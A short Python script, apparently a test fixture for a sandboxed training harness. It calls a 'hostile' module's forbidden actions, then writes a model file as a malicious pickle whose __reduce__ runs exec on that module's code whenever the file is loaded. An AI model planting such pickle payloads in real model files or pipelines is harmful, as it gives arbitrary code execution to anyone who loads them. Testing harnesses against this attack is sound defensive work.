"""Tries what is forbidden, then writes a pickle that tries it too when it is loaded."""

import argparse
import pathlib
import pickle

import hostile

PAYLOAD = "import os; os.write(1, b'PAYLOAD RAN\\n')\n"


class Payload:
    def __reduce__(self):
        return exec, (PAYLOAD + pathlib.Path(hostile.__file__).read_text() + "\neverything()\n",)


def main(arguments: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--data", required=True)
    parser.add_argument("--model", required=True)
    parser.add_argument("--seed")
    parser.add_argument("--C")
    options = parser.parse_args(arguments)
    hostile.everything()
    with open(options.model, "wb") as file:
        pickle.dump({"model": Payload()}, file)


if __name__ == "__main__":
    main()
